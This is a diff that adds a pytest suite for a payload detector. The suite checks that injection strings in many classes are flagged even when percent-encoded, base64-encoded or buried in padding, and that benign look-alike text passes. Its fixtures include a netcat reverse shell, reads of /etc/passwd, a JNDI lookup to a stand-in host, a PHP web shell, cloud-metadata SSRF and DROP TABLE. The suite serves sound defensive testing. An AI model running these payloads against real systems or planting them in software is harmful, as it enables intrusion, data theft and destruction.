@@ -1,0 +1,132 @@
+"""Each class knows what breaks out, and lets pass what only looks like it."""
+
+import base64
+from urllib.parse import quote
+
+import pytest
+
+from garrison.payload.classes.catalogue import CLASSES
+from garrison.payload.judge import judge
+
+ATTACKS: dict[str, tuple[str, ...]] = {
+    "sql": (
+        "' or '1'='1",
+        "1 OR 1=1--",
+        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
+        "-1 UNION ALL SELECT 1,2,concat(user,0x3a,password) FROM mysql.user",
+        "1'; DROP TABLE users--",
+        "1;waitfor delay '0:0:5'--",
+        "1/**/uNiOn/**/sELeCt/**/1,2,3",
+        "'; exec master..xp_cmdshell 'ping 10.10.1.2'--",
+        "1 AND extractvalue(1,concat(0x7e,version()))",
+    ),
+    "nosql": ("username[$ne]=a", "{'$where': 'sleep(100)'}", "db.users.find({})"),
+    "command": ("; cat /etc/passwd", "$(whoami)", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/id",
+                "cat$IFS/etc/passwd"),
+    "path": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/read=convert.base64-encode"),
+    "template": ("{{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}",
+                 "<%= 7*7 %>"),
+    "markup": (
+        "<script>alert(1)</script>",
+        '"><img src=x onerror=alert(1)>',
+        "<svg/onload=confirm(1)>",
+        "javascript:alert(document.cookie)",
+        '<!--#exec cmd="ls" -->',
+        '" onfocus=alert(1) autofocus="',
+    ),
+    "xml": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',),
+    "request": ("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "http://2130706433/"),
+    "ldap": ("*)(uid=*))(|(uid=*", "(&(uid=admin)(userPassword=*))"),
+    "xpath": ("' or count(/*)=1 or 'a'='b", "x']/parent::node()/child::text()|//user['1"),
+    "object": ('O:8:"stdClass":1:{s:1:"a";i:1;}', "!!python/object/apply:os.system ['id']", "__proto__[admin]"),
+    "runtime": ("<?php system($_GET['c']); ?>", "$_SERVER['HTTP_HOST']", "allow_url_include=1"),
+    "graphql": ('query { user(name: "a\' or 1=1--") { id } }',),
+    "header": ("a\r\nSet-Cookie: session=1\r\nContent-Type: text/html", "a\nHTTP/1.1 200 OK\nContent-Length: 0"),
+}  # fmt: skip
+
+BENIGN = (
+    "Grace O'Malley",
+    "Dot's & Dave's Diner",
+    "It's 5 o'clock; select a seat and drop by the table or call us",
+    "Update the README and create table of contents",
+    'Search for "salt" and "pepper" or "sugar"',
+    "We deleted items from the cart, then union members insert coins",
+    "Run `make test && make lint`, then open a pull request",
+    "Use `curl` to query the `/metrics` endpoint",
+    "See [the guide](../guides/replay.md) and ![logo](https://example.com/a.png)",
+    "# Title\n\n* item one\n* item two\n\n```python\nfor x in range(10):\n    print(x)\n```\n",
+    '<p>Hello <b>world</b>, see <a href="https://example.com/a?b=1" target="_blank">this</a></p>',
+    '<img src="https://cdn.example.com/a.png" alt="figure" width="640">',
+    '<table class="t"><tr><td>1</td><td>2</td></tr></table>',
+    "query Menu($id: ID!) {\n  menu(id: $id) {\n    ...MenuDetails\n  }\n}\n",
+    'def total(items: list[int]) -> int:\n    return sum(item for item in items if item > 0)\n',
+    "const add = (a, b) => { return a + b; };\nexport default add;",
+    "if (a && b || c) { i++; }",
+    "price > 100 and rating >= 4",
+    "AND, OR and NOT are operators",
+    "C:\\Users\\ada\\Documents\\report.docx",
+    "https://www.example.com/search?q=a+b&page=2#results",
+    "Dear {{ customer.name }}, your order {{ order.id }} has shipped",
+    "5 < 6 && 7 > 3",
+    "$5,000 (five thousand) - 50% off!",
+    "rock 'n' roll",
+    "a@b.example; c@d.example",
+    "2026-11-28T08:15:00Z",
+    "jQuery and 960 grid",
+    "Straße 5, 3. OG <rechts>",
+    "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBncmVldGluZw==",
+)  # fmt: skip
+
+ALL = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
+
+
+@pytest.mark.parametrize(("kind", "text"), ALL)
+def test_what_breaks_out_is_found(kind: str, text: str) -> None:
+    assert judge([text]), kind
+
+
+@pytest.mark.parametrize("kind", ATTACKS)
+def test_each_class_names_its_own(kind: str) -> None:
+    kinds = {found.kind for text in ATTACKS[kind] for found in judge([text])}
+    assert kind in kinds
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_what_only_looks_like_it_passes(text: str) -> None:
+    assert judge([text]) == ()
+
+
+@pytest.mark.parametrize(("kind", "text"), ALL)
+def test_percent_encoding_hides_nothing(kind: str, text: str) -> None:
+    assert judge([quote(text, safe="")]), kind
+    assert judge([quote(quote(text, safe=""), safe="")]), kind
+
+
+@pytest.mark.parametrize("text", [text for _, text in ALL if len(text) > 16])
+def test_base64_hides_nothing(text: str) -> None:
+    assert judge([base64.b64encode(text.encode()).decode()])
+
+
+@pytest.mark.parametrize(
+    "text", ["<script>alert(1)</script>", "../../../../etc/passwd", "1 UNION SELECT 1,2 FROM users"]
+)
+def test_padding_hides_nothing(text: str) -> None:
+    padding = "The quick brown fox jumps over the lazy dog. " * 1500
+    (found,) = judge([f"{padding}{text} {padding}"])
+    assert text[:6] in found.text[found.place - 60 : found.place + 60]
+
+
+def test_each_text_is_found_at_most_once_and_by_its_place() -> None:
+    found = judge(["plain", "<script>alert(1)</script>", "more", "../../../etc/passwd"])
+    assert [each.index for each in found] == [1, 3]
+
+
+def test_what_was_undone_is_evidence() -> None:
+    (found,) = judge(["%253Cscript%253Ealert(1)%253C/script%253E"])
+    assert found.steps == ("percent", "percent")
+
+
+def test_ids_are_unique() -> None:
+    assert len({each.id for each in CLASSES}) == len(CLASSES)
+    for each in CLASSES:
+        assert len({sign.name for sign in each.signs}) == len(each.signs), each.id
